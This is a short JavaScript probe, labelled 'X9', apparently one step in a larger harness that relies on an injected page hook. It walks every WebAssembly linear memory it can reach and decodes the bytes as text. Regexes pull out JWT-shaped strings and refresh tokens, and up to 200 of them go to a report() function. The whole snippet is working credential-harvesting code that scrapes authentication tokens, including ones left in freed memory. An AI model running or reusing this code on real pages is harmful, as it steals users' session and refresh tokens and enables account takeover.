// X9: reads the whole linear memory of the page's programs, live and dead
// objects alike, and keeps what looks like a token.
const found = new Set();
let bytes = 0;
const looks = [/eyJ[\w-]{10,}\.eyJ[\w-]{10,}\.[\w-]{20,}/g, /refresh_token["=:\s]{1,4}[\w.~+/-]{20,4000}/g];
const latin = new TextDecoder("latin1"), step = 1 << 20, overlap = 1 << 14;
for (const memory of globalThis.memories ?? []) {
  const all = new Uint8Array(memory.buffer);
  bytes += all.length;
  for (let at = 0; at < all.length; at += step) {
    const text = latin.decode(all.slice(at, at + step + overlap));
    for (const look of looks) for (const [hit] of text.matchAll(look)) found.add(hit);
  }
}
await report({
  "linear memory": [...found].slice(0, 200).join("\n"), memories: String(globalThis.memories?.size ?? 0), bytes: String(bytes),
}, globalThis.memories ? "" : "the hook is not in the page");
